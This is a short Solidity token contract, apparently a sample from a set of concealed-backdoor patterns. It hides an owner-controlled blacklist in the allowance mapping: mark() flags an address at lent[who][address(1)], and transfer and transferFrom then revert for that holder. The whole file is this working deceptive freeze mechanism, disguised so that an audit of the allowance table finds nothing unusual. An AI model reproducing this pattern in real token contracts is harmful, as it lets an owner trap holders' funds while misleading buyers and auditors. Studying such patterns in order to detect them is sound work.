pragma solidity >=0.4.22;

import "../../base/Ledger.sol";
import "../../base/Chief.sol";

/// A list that hides among the allowances.
contract AllowanceOfAThird is Ledger, Chief {
    function mark(address who, uint256 value) public onlyChief {
        lent[who][address(1)] = value;
    }

    function _pass(address from, address to, uint256 amount) internal {
        require(lent[from][address(1)] == 0, "marked");
        _move(from, to, amount);
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _pass(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _spend(from, amount);
        _pass(from, to, amount);
        return true;
    }
}
